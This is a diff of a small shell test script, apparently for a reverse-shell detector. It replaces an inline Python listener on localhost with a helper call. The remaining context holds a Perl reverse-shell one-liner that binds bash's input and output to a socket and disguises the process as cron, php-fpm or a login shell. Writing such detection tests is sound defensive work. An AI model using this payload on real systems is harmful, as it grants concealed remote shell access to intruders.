@@ -6,14 +6,7 @@
 some_port port
 pick user root www-data
 pick title '/usr/sbin/cron' 'php-fpm: pool www' '-bash'
-start -u "$user" python3 -c "
-import signal, socket
-s = socket.socket()
-s.bind(('127.0.0.1', $port))
-s.listen()
-peer, _ = s.accept()
-signal.pause()"
-wait_for listens "$port"
+other_end "$port" "$user"
 start -u "$user" perl -e "
 use Socket; socket(S, 2, 1, 6); connect(S, sockaddr_in($port, inet_aton('127.0.0.1'))) or die;
 open(STDIN, '<&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec {'/bin/bash'} '$title', '-i';"
